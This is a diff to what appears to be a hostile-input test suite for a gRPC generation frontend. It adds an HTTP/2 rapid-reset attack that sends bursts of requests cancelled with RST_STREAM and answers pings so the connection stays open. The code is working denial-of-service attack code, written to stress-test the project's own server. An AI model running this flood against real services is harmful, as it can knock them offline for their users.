@@ -4,15 +4,19 @@ An attack gets the frontend's address and a token, and goes on until its event i
 """
 
 import itertools
+import socket
 import threading
 import time
 from collections.abc import Callable, Iterator
 from contextlib import suppress
 
 import grpc
+import hpack
+from h2.errors import ErrorCodes
+from hyperframe.frame import DataFrame, Frame, HeadersFrame, PingFrame, RstStreamFrame
 
 from pagewire.v1 import generation_pb2, generation_pb2_grpc, pooling_pb2, pooling_pb2_grpc
-from tests.hostile.test_frames import Http2, framed
+from tests.hostile.test_frames import Http2, framed, headers
 
 PROMPT = "The quick brown fox jumps over the lazy dog. " * 4
 
@@ -93,13 +97,35 @@ def left_behind(address: str, token: str, stop: threading.Event) -> None:
 
 
 def resets(address: str, token: str, stop: threading.Event) -> None:
-    """HEADERS and RST_STREAM, as fast as it goes."""
-    bearer = f"Bearer {token}"
+    """Whole requests, each with RST_STREAM behind it, as fast as it goes."""
+    body, fields = framed(request().SerializeToString()), headers(authorization=f"Bearer {token}")
+    while not stop.is_set():
+        with suppress(OSError), Http2(address) as http:
+            streams, received, encoder = itertools.count(1, 2), bytearray(), hpack.Encoder()
+            block = encoder.encode(fields)  # fills the server's table: all further blocks are alike
+            while not stop.is_set():
+                burst = bytearray()
+                for stream in itertools.islice(streams, 50):
+                    burst += HeadersFrame(stream, block, flags=["END_HEADERS"]).serialize()
+                    burst += DataFrame(stream, body).serialize()
+                    burst += RstStreamFrame(stream, ErrorCodes.CANCEL).serialize()
+                    block = encoder.encode(fields)
+                http.socket.sendall(burst)
+                _answer_pings(http.socket, received)
 
-    def reset(http: Http2) -> None:
-        http.state.reset_stream(http.call(b"", end=False, authorization=bearer))
 
-    raw(address, stop, reset, most=1 << 30)
+def _answer_pings(connection: socket.socket, received: bytearray) -> None:
+    """Without answers, gRPC closes the connection. received: what is left of the last call, which is
+    replaced."""
+    with suppress(BlockingIOError):
+        received += connection.recv(1 << 20, socket.MSG_DONTWAIT)
+    while len(received) >= 9:
+        frame, length = Frame.parse_frame_header(memoryview(bytes(received[:9])))
+        if len(received) < 9 + length:
+            return
+        if isinstance(frame, PingFrame) and "ACK" not in frame.flags:
+            connection.sendall(PingFrame(0, bytes(received[9 : 9 + length]), flags=["ACK"]).serialize())
+        del received[: 9 + length]
 
 
 def raw(
